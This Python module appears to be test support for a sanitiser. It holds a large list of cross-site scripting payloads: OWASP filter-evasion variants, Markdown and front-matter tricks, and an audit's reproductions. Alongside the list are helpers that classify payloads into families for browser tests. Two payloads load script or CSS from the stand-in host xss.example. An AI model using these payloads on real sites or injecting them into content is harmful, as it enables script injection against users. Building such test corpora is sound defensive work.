"""Our own corpus of injection payloads: OWASP's filter-evasion cheat sheet and beyond.

Markup, Markdown, URL-scheme, attribute, entity, encoding and front-matter tricks,
with the audit's reproductions among them. Each payload that can run calls
``alert``, so a browser test that handles dialogs sees it.
"""

from __future__ import annotations

import re

PAYLOADS: list[str] = [
    # --- the audit's reproductions
    "Martemyan Ryutin <script src=data:,alert(document.domain)//",
    "<img src=x onerror=alert(1)>",
    "See [the coal basin](jav&#x09;ascript:alert(document.domain)) first.",
    "<b>x</b><script>alert(1)</script>",
    'pc"><img src=x onerror=alert(1)>',
    'A "quoted\\" name\ndescription: <script>alert(1)</script>',
    "x\n---\ntitle: <script>alert(1)</script>\n---",
    # --- classic tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=data:,alert(1)></script>",
    "<<script>alert(1);//<</script>",
    "<script\x0dalert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC=`javascript:alert("XSS")`>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<IMG DYNSRC="javascript:alert(\'XSS\')">',
    '<IMG LOWSRC="javascript:alert(\'XSS\')">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg==\" type=\"image/svg+xml\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert('XSS'));\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # --- Markdown routes
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](  javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\nSee [x].",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x \" onerror=\"alert(1))",
    "[x](https://example.org/\" onclick=\"alert(1))",
    "[[nobody|<img src=x onerror=alert(1)>]]",
    "[[<script>alert(1)</script>]]",
    "*<img src=x onerror=alert(1)>*",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<div markdown=\"1\"><img src=x onerror=alert(1)></div>",
    "x{: onclick=\"alert(1)\" }",
    "x\n{: onmouseover=alert(1) }",
    # --- encodings and oddities
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0000ipt>alert(1)</script>",
    "<img src=x one\u200brror=alert(1)>",
    "<a href=\"java\u2028script:alert(1)\">x</a>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<a href=\"#\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "{{7*7}}<script>alert(1)</script>",
    "${alert(1)}<svg onload=alert(1)>",
]


def unique() -> list[str]:
    """The corpus without repeats (a payload listed twice counts once)."""
    return list(dict.fromkeys(PAYLOADS))


#: The family of a payload's first tag: what kind of active content it tries to smuggle in.
_TAG_FAMILIES = {
    "script": "script element", "img": "image", "image": "image", "svg": "SVG", "math": "MathML",
    "iframe": "embedded document", "frame": "embedded document", "frameset": "embedded document",
    "object": "embedded document", "embed": "embedded document", "applet": "embedded document",
    "a": "link element", "style": "document-level element", "link": "document-level element",
    "meta": "document-level element", "base": "document-level element", "body": "document-level element",
    "html": "document-level element", "head": "document-level element", "title": "document-level element",
    "form": "form control", "input": "form control", "button": "form control", "textarea": "form control",
    "select": "form control", "isindex": "form control", "keygen": "form control",
}
_FAMILY_TESTS: list[tuple[str, re.Pattern[str]]] = [
    ("front matter or YAML break", re.compile(r"(?:^|\n)---|\n\w+:")),
    ("attribute list", re.compile(r"\{:")),
    ("Markdown link or image", re.compile(r"\]\(|\]:|\[\[|^<javascript:")),
    ("encoded or look-alike markup", re.compile(r"&#|&lt;|%3C|[\uff1c\u200b\u2028\x00]|\\u00", re.I)),
    ("script URL without a tag", re.compile(r"^\s*(?:javascript|vbscript|data):", re.I)),
    ("code span", re.compile(r"^`[^`]+`$")),
    ("attribute breakout", re.compile(r"""^["'`]|^\w+["']""")),
]
_FIRST_TAG = re.compile(r"<\s*/?\s*([A-Za-z]+)")


def family(payload: str) -> str:
    """The family a payload belongs to, for sampling: every family must be tried in every slot."""
    for name, test in _FAMILY_TESTS:
        if test.search(payload):
            return name
    tag = _FIRST_TAG.search(payload)
    if tag:
        return _TAG_FAMILIES.get(tag.group(1).lower(), "other element")
    return "text"
